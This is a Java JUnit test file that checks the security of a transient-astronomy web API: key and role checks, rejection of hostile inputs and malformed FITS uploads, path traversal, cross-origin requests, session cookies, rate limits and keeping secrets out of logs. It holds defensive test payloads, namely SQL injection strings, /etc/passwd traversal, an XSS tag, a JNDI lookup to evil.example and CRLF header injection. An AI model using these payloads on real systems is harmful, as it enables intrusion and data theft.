package org.alidade.web;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.IThrowableProxy;
import ch.qos.logback.classic.spi.ThrowableProxyUtil;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import org.alidade.objectstore.ContentDescription;
import org.alidade.transients.database.DatabaseSession;
import org.alidade.transients.database.Role;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

/** Nothing is given out, changed or remembered that the key does not allow. */
class TransientSecurityTest {
  private static final String KEY = "X-API-Key";
  private static final String V1 = "/api/v1";
  private static final String HOST = "Host: localhost";
  private static final int UPLOAD_BYTES = 200_000;

  @TempDir static Path folder;
  private static TransientWorld world;
  private static Client client;
  private static String admin;
  private static String viewer;
  private static String analyst;

  @BeforeAll
  static void start() {
    world = new TransientWorld(folder, 2, TransientWorld.options().withUploadBytes(UPLOAD_BYTES));
    client = new Client(world.service.address());
    admin = world.key(Role.ADMIN);
    viewer = world.key(Role.VIEWER);
    analyst = world.key(Role.ANALYST);
  }

  @AfterAll
  static void stop() {
    world.close();
  }

  private record Route(String method, String path, String permission) {}

  private static List<Route> routes() {
    List<Route> routes = new ArrayList<>();
    JsonNode paths = client.json("/api/openapi.json").path("paths");
    for (Map.Entry<String, JsonNode> path : paths.properties()) {
      for (Map.Entry<String, JsonNode> operation : path.getValue().properties()) {
        String description = operation.getValue().path("description").asText();
        String permission = description.replaceAll("Needs (no key|([a-z:]+))\\.", "$2");
        String address =
            V1
                + path.getKey()
                    .replace("{plane}", "science")
                    .replaceAll("\\{[a-z]+}", UUID.randomUUID().toString());
        routes.add(new Route(operation.getKey().toUpperCase(Locale.ROOT), address, permission));
      }
    }
    assertThat(routes).hasSizeGreaterThan(60);
    return routes;
  }

  private static int status(Route route, String... headers) {
    return client.send(route.method(), route.path(), "{}", headers).statusCode();
  }

  @Test
  void everyEndpointAsksForAKey() {
    for (Route route : routes()) {
      if (!route.permission().isEmpty()) {
        assertThat(status(route)).as(route.path()).isEqualTo(401);
        assertThat(status(route, KEY, "astrid_" + "x".repeat(43))).isEqualTo(401);
        assertThat(status(route, "Cookie", "alidade_session=" + "x".repeat(43))).isEqualTo(401);
      }
    }
  }

  @Test
  void rolesOpenWhatTheyAllowAndNoMore() {
    for (Route route : routes()) {
      boolean reading = route.permission().equals("read:data");
      boolean writing = reading || route.permission().equals("write:data");
      if (!route.permission().isEmpty()) {
        assertThat(status(route, KEY, viewer) == 403).as(route.path()).isEqualTo(!reading);
        assertThat(status(route, KEY, analyst) == 403).as(route.path()).isEqualTo(!writing);
      }
    }
    String guest = world.key(Role.GUEST, "a guest");
    assertThat(client.get(V1 + "/observations", KEY, guest).statusCode()).isEqualTo(403);
  }

  private static final List<String> HOSTILE =
      List.of(
          "' OR '1'='1",
          "x'; DROP TABLE observations; --",
          "1) UNION SELECT key_hash FROM api_keys --",
          "../../../etc/passwd",
          "..\\..\\secret",
          "%2e%2e/%2e%2e/secret",
          "<script>alert(1)</script>",
          "${jndi:ldap://evil.example/a}",
          "\u0000",
          "a\r\nSet-Cookie: a=b",
          ":name",
          "{{7*7}}");

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  /** Every parameter that there is, with every hostile text. */
  @Test
  void hostileParametersChangeNothing() {
    long before = rows();
    JsonNode paths = client.json("/api/openapi.json").path("paths");
    for (Map.Entry<String, JsonNode> path : paths.properties()) {
      JsonNode parameters = path.getValue().path("get").path("parameters");
      if (path.getKey().startsWith("/stream")) {
        continue;
      }
      for (JsonNode parameter : parameters) {
        for (String text : HOSTILE) {
          harmless(address(path.getKey(), parameters, parameter, text));
        }
      }
    }
    assertThat(rows()).isEqualTo(before);
  }

  private static String address(String path, JsonNode parameters, JsonNode chosen, String text) {
    String address = path;
    String query = "";
    for (JsonNode parameter : parameters) {
      String name = parameter.path("name").asText();
      String value = parameter.equals(chosen) ? encoded(text) : usual(name);
      if (parameter.path("in").asText().equals("path")) {
        address = address.replace("{" + name + "}", value.replace("+", "%20"));
      } else if (parameter.equals(chosen) || parameter.path("required").asBoolean()) {
        query += (query.isEmpty() ? "?" : "&") + name + "=" + value;
      }
    }
    return V1 + address + query;
  }

  private static String usual(String name) {
    return switch (name) {
      case "ra", "dec" -> "1";
      case "plane" -> "science";
      case "key" -> "cas/x";
      default -> world.detections.get(0).id().toString();
    };
  }

  private static void harmless(String address) {
    HttpResponse<String> answer = client.get(address, KEY, admin);
    assertThat(answer.statusCode()).as(address).isIn(200, 400, 404);
    assertThat(answer.body())
        .as(address)
        .doesNotContain("root:", "<script", "key_hash", "Exception", folder.toString(), "SQL");
    assertThat(answer.headers().firstValue("Set-Cookie")).isEmpty();
  }

  private static long rows() {
    return world.database.read(
        session ->
            count(session, "observations")
                + count(session, "detections")
                + count(session, "surveys")
                + count(session, "validation_events"));
  }

  private static long count(DatabaseSession session, String table) {
    return session.handle().createQuery("SELECT count(*) FROM " + table).mapTo(Long.class).one();
  }

  private static String json(Object value) throws IOException {
    return new ObjectMapper().writeValueAsString(value);
  }

  @Test
  void hostileTextsInBodiesAreOnlyTexts() throws IOException {
    String id = world.detections.get(1).id().toString();
    for (String text : HOSTILE) {
      int survey =
          client
              .post(V1 + "/observations/surveys", json(Map.of("name", text)), KEY, admin)
              .statusCode();
      assertThat(survey).as(text).isIn(201, 400);
      Map<String, Object> label =
          Map.of("detection_id", id, "label", "artifact", "notes", text, "tags", List.of(text));
      HttpResponse<String> noted =
          client.post(V1 + "/curation/validation-events", json(label), KEY, analyst);
      assertThat(noted.statusCode()).as(text).isIn(201, 400, 422);
      if (noted.statusCode() == 201) {
        assertThat(Client.json(noted).path("data").path("event").path("notes").asText())
            .isEqualTo(text.strip());
      }
      for (String field : List.of("label", "confidence_level", "image_quality")) {
        Map<String, Object> wrong = new java.util.HashMap<>(label);
        wrong.put(field, text);
        assertThat(
                client
                    .post(V1 + "/curation/validation-events", json(wrong), KEY, analyst)
                    .statusCode())
            .isIn(400, 422);
      }
      assertThat(
              client
                  .post(V1 + "/api-keys", json(Map.of("name", "a", "role", text)), KEY, admin)
                  .statusCode())
          .isEqualTo(422);
    }
    assertThat(world.database.<Long>read(session -> count(session, "observations"))).isEqualTo(2);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../transients.db",
        "observations/../../transients.db",
        "observations/./x",
        "/etc/passwd",
        "observations//x",
        "observations/%2e%2e/x",
        "transients.db",
        "observations/..",
        "cas/..\\..\\transients.db"
      })
  void keysOfObjectsDoNotLeadOut(String key) {
    for (String what : List.of("download", "metadata")) {
      HttpResponse<String> answer =
          client.get(V1 + "/storage/" + what + "?key=" + encoded(key), KEY, viewer);
      assertThat(answer.statusCode()).isEqualTo(404);
      assertThat(answer.body()).doesNotContain("SQLite", "root:");
    }
  }

  private static String upload(String name) {
    String survey = world.database.read(session -> session.surveys().list()).get(0).id().toString();
    return V1
        + "/observations?survey="
        + survey
        + "&sn_name=2021abc&observation_type=science&name="
        + encoded(name);
  }

  @Test
  void hostileFilesAreRefused() throws IOException {
    String card = "SIMPLE  =                    T" + " ".repeat(50);
    List<String> files =
        List.of(
            "",
            "no FITS at all",
            "\u001f\u008b\b\u0000garbage",
            card,
            card + "BITPIX  =                  -32" + " ".repeat(50) + "END",
            block(card, "BITPIX  =                  -32", "NAXIS   =                  999", "END"),
            block(
                card,
                "BITPIX  =                  -64",
                "NAXIS   =                    2",
                "NAXIS1  =           2147483647",
                "NAXIS2  =           2147483647",
                "END"),
            block(card, "BITPIX  =                   16", "NAXIS   =                   -1", "END"));
    for (String file : files) {
      for (String address : List.of(upload("x"), V1 + "/observations/validate")) {
        HttpResponse<String> answer =
            client.send("POST", address, file, KEY, admin, "Content-Type", "application/fits");
        assertThat(answer.statusCode()).as(file).isEqualTo(400);
        assertThat(answer.body()).doesNotContain("Exception", folder.toString(), "/tmp");
      }
    }
    assertThat(temporaryFiles()).isEmpty();
    assertThat(world.store.list("observations/")).isEmpty();
  }

  private static String block(String... cards) {
    StringBuilder text = new StringBuilder();
    for (String card : cards) {
      text.append(card).append(" ".repeat(80 - card.length()));
    }
    return text + " ".repeat(2880 - text.length());
  }

  private static List<Path> temporaryFiles() throws IOException {
    try (Stream<Path> files = Files.list(Path.of(System.getProperty("java.io.tmpdir")))) {
      return files
          .filter(file -> file.getFileName().toString().startsWith("alidade-upload"))
          .toList();
    }
  }

  @Test
  void longFilesAreRefusedWhileTheyCome() throws IOException {
    String file = "S".repeat(2 * UPLOAD_BYTES);
    HttpResponse<String> answer =
        client.send("POST", upload("x"), file, KEY, admin, "Content-Type", "application/fits");
    assertThat(answer.statusCode()).isEqualTo(413);
    assertThat(temporaryFiles()).isEmpty();
    String body = "{\"name\": \"" + "a".repeat(300_000) + "\"}";
    assertThat(client.post(V1 + "/observations/surveys", body, KEY, admin).statusCode())
        .isEqualTo(413);
  }

  @ParameterizedTest
  @ValueSource(strings = {"../../x", "/x", "x/../../y", "..", "x\u0000y", "a;b", "<x>", "a'b", ""})
  void namesOfUploadsAreNotTrusted(String name) {
    HttpResponse<String> answer =
        client.send("POST", upload(name), "x", KEY, admin, "Content-Type", "application/fits");
    assertThat(answer.statusCode()).isEqualTo(400);
  }

  @Test
  void foreignPagesAndNamesAreRefused() {
    String post = "POST /api/v1/curation/next HTTP/1.1";
    String key = KEY + ": " + analyst;
    String type = "Content-Type: application/json";
    String empty = "Content-Length: 0";
    for (String header :
        List.of("Origin: http://evil.example", "Origin: null", "Sec-Fetch-Site: cross-site")) {
      assertThat(Client.status(client.raw(post, HOST, key, type, empty, header))).isEqualTo(403);
    }
    assertThat(Client.status(client.raw(post, "Host: evil.example", key, type, empty)))
        .isEqualTo(403);
    assertThat(Client.status(client.raw("GET / HTTP/1.1", "Host: evil.example"))).isEqualTo(403);
  }

  @Test
  void sessionsAreCookiesThatScriptsCannotRead() {
    HttpResponse<String> entered = client.post(V1 + "/session", "{\"key\": \"" + analyst + "\"}");
    assertThat(entered.statusCode()).isEqualTo(200);
    String cookie = entered.headers().firstValue("Set-Cookie").orElseThrow();
    assertThat(cookie).contains("HttpOnly", "SameSite=Strict", "Path=/").doesNotContain(analyst);
    String session = cookie.substring(0, cookie.indexOf(';'));
    assertThat(client.get(V1 + "/observations", "Cookie", session).statusCode()).isEqualTo(200);
    assertThat(client.send("DELETE", V1 + "/session", "", "Cookie", session).statusCode())
        .isEqualTo(200);
    assertThat(client.get(V1 + "/observations", "Cookie", session).statusCode()).isEqualTo(401);
    assertThat(client.post(V1 + "/session", "{\"key\": \"wrong\"}").statusCode()).isEqualTo(401);
  }

  @Test
  void aSessionEndsWithItsKey() {
    String text = world.key(Role.VIEWER, "short-lived");
    String cookie =
        client
            .post(V1 + "/session", "{\"key\": \"" + text + "\"}")
            .headers()
            .firstValue("Set-Cookie")
            .orElseThrow();
    String session = cookie.substring(0, cookie.indexOf(';'));
    assertThat(client.get(V1 + "/session", "Cookie", session).statusCode()).isEqualTo(200);
    world.database.change(
        rows ->
            rows.apiKeys().list().stream()
                .filter(key -> key.name().equals("short-lived"))
                .forEach(key -> rows.apiKeys().revoke(key.id())));
    assertThat(client.get(V1 + "/session", "Cookie", session).statusCode()).isEqualTo(401);
    assertThat(client.get(V1 + "/session", KEY, text).statusCode()).isEqualTo(401);
  }

  @Test
  void tooManyRequestsWait() throws IOException {
    Path other = Files.createDirectory(folder.resolve("limited"));
    TransientServiceOptions few =
        TransientServiceOptions.defaults()
            .withPort(0)
            .withRequestsPerHour("observations", 3)
            .withLimits(5, 1000, 2);
    try (TransientWorld limited = new TransientWorld(other, 1, few)) {
      Client asks = new Client(limited.service.address());
      String key = limited.key(Role.VIEWER);
      for (int left = 2; left >= 0; left--) {
        HttpResponse<String> answer = asks.get(V1 + "/observations", KEY, key);
        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.headers().firstValue("X-RateLimit-Remaining"))
            .contains(Integer.toString(left));
      }
      HttpResponse<String> refused = asks.get(V1 + "/observations", KEY, key);
      assertThat(refused.statusCode()).isEqualTo(429);
      assertThat(Long.parseLong(refused.headers().firstValue("Retry-After").orElseThrow()))
          .isBetween(1L, 1200L);
      assertThat(asks.get(V1 + "/workers/queues", KEY, key).statusCode()).isEqualTo(200);
      assertThat(asks.get(V1 + "/observations", KEY, "wrong").statusCode()).isEqualTo(401);
      assertThat(asks.get(V1 + "/observations", KEY, "wrong").statusCode()).isEqualTo(401);
      assertThat(asks.get(V1 + "/observations", KEY, "wrong").statusCode()).isEqualTo(429);
    }
  }

  @Test
  void secretsAreNotLogged() {
    Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    Logger own = (Logger) LoggerFactory.getLogger("org.alidade");
    ListAppender<ILoggingEvent> log = new ListAppender<>();
    log.start();
    root.addAppender(log);
    root.setLevel(Level.INFO);
    own.setLevel(Level.TRACE);
    try {
      client.post(V1 + "/session", "{\"key\": \"" + analyst + "\", \"x\": 1}");
      client.post(V1 + "/session", "{\"key\": \"" + analyst + "\"}");
      client.get(V1 + "/observations", KEY, analyst);
      client.get(V1 + "/observations", KEY, analyst + "x");
      client.get(V1 + "/nonsense?key=" + analyst, KEY, analyst);
      client.post(V1 + "/api-keys", "{\"name\": \"logged\", \"role\": \"viewer\"}", KEY, admin);
      failWith(analyst);
    } finally {
      root.detachAppender(log);
      root.setLevel(Level.WARN);
      own.setLevel(null);
    }
    assertThat(log.list).isNotEmpty();
    for (ILoggingEvent event : log.list) {
      String text = event.getFormattedMessage() + trace(event);
      assertThat(text).doesNotContain("astrid_", analyst, admin);
    }
  }

  /** A request that the server cannot answer, so that there is something in the log. */
  private static void failWith(String key) {
    String stored = "processed/" + world.science.id() + "/image.fits";
    byte[] image = world.store.read(stored);
    world.store.put(stored, new byte[2880], ContentDescription.fits());
    String stamp = "/detections/" + world.detections.get(0).id() + "/stamps/science";
    HttpResponse<String> answer = client.get(V1 + stamp, KEY, key);
    world.store.put(stored, image, ContentDescription.fits());
    assertThat(answer.statusCode()).isEqualTo(503);
  }

  private static String trace(ILoggingEvent event) {
    IThrowableProxy failure = event.getThrowableProxy();
    return failure == null ? "" : ThrowableProxyUtil.asString(failure);
  }
}
